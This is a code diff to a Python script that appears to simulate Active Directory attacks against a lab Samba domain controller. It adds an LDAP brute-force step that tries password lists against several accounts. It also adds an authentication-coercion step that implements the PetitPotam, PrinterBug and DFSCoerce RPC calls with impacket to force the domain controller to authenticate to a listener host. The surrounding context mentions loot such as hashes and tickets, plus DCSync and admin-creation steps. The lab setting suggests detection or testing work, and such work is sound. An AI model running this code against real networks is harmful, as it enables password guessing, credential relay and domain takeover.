@@ -11,6 +11,7 @@ creation) are reported, not raised. Loot (ccaches, hashes) goes to $DCW_LAB_WORK
 from __future__ import annotations
 
 import argparse
+import contextlib
 import datetime
 import json
 import os
@@ -388,6 +389,27 @@ def step_brute_ntlm(args):
                 c.logoff()
             except Exception as e:  # noqa: BLE001
                 out(f"{u}:{pw} {str(e)[:60]}")
+            time.sleep(args.delay)
+
+
+def step_ldap_brute(args):
+    """Many LDAP simple binds (cleartext passwords) against several accounts, one connection
+    per attempt, as LDAP brute-force tools do."""
+    import ldap3
+
+    server = ldap3.Server(DC, port=389, get_info=ldap3.NONE)
+    for u in args.users:
+        for pw in args.passwords:
+            c = ldap3.Connection(
+                server, user=f"{u}@{FQDN_DOMAIN}", password=pw, authentication=ldap3.SIMPLE
+            )
+            try:
+                ok = c.bind()
+                out(f"{u}:{pw} {'VALID' if ok else c.result.get('description')}")
+            except Exception as e:  # noqa: BLE001
+                out(f"{u}:{pw} {str(e)[:60]}")
+            finally:
+                c.unbind()
             time.sleep(args.delay)
 
 
@@ -819,6 +841,75 @@ def step_add_admin(args):
         out(f"delete {dn}: {conn.result['description']}")
     conn.unbind()
     _ = ok
+
+
+def step_coerce(args):
+    """Authentication coercion against the DC with a UNC path to ``--name`` (the listener):
+    PetitPotam EfsRpcOpenFileRaw over \\pipe\\lsarpc, PrinterBug RpcOpenPrinter +
+    RpcRemoteFindFirstPrinterChangeNotificationEx over \\pipe\\spoolss, DFSCoerce
+    NetrDfsAddStdRoot over \\pipe\\netdfs. Each call is sent whatever Samba serves;
+    results (faults, errors) are printed."""
+    from impacket.dcerpc.v5 import rprn
+    from impacket.dcerpc.v5.dtypes import ULONG, WSTR
+    from impacket.dcerpc.v5.ndr import NDRCALL
+    from impacket.uuid import uuidtup_to_bin
+
+    class EfsRpcOpenFileRaw(NDRCALL):  # MS-EFSR 3.1.4.2.1, opnum 0
+        opnum = 0
+        structure = (("FileName", WSTR), ("Flag", ULONG))
+
+    class NetrDfsAddStdRoot(NDRCALL):  # MS-DFSNM 3.1.4.4.1, opnum 12
+        opnum = 12
+        structure = (
+            ("ServerName", WSTR),
+            ("RootShare", WSTR),
+            ("Comment", WSTR),
+            ("ApiFlags", ULONG),
+        )
+
+    listener = args.name
+    conn = smb(args.user, args.password, workstation=this_workstation())
+
+    def attempt(label, pipe, uuid, fn):
+        try:
+            dce = rpc_over_smb(conn, pipe)
+        except Exception as e:  # noqa: BLE001
+            out(f"{label}: open {pipe}: {str(e)[:80]}")
+            return
+        try:
+            dce.bind(uuidtup_to_bin(uuid))
+            fn(dce)
+            out(f"{label}: answered")
+        except Exception as e:  # noqa: BLE001
+            out(f"{label}: {str(e)[:100]}")
+        finally:
+            with contextlib.suppress(Exception):
+                dce.disconnect()
+
+    def efs(dce):
+        req = EfsRpcOpenFileRaw()
+        req["FileName"] = f"\\\\{listener}\\test\\Settings.ini\x00"
+        req["Flag"] = 0
+        dce.request(req)
+
+    def printerbug(dce):
+        h = rprn.hRpcOpenPrinter(dce, f"\\\\{DC}\x00")["pHandle"]
+        rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
+            dce, h, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine=f"\\\\{listener}\x00"
+        )
+
+    def dfs(dce):
+        req = NetrDfsAddStdRoot()
+        req["ServerName"] = f"{listener}\x00"
+        req["RootShare"] = "test\x00"
+        req["Comment"] = "\x00"
+        req["ApiFlags"] = 0
+        dce.request(req)
+
+    attempt("EfsRpcOpenFileRaw", r"\lsarpc", ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"), efs)
+    attempt("PrinterBug", r"\spoolss", ("12345678-1234-ABCD-EF00-0123456789AB", "1.0"), printerbug)
+    attempt("NetrDfsAddStdRoot", r"\netdfs", ("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"), dfs)
+    conn.logoff()
 
 
 def step_dcsync(args):
